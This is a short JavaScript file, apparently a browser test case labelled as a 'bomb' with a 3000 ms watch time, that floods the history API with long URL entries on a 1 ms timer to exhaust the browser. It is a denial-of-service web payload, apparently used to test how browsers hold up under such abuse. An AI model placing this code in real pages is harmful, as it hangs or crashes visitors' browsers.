/* {"family": "bombs", "bomb": true, "watch": 3000} */
setInterval(() => { for (let i = 0; i < 100; i++) history.pushState(null, '', `/${'x'.repeat(1000)}${i}`); }, 1);
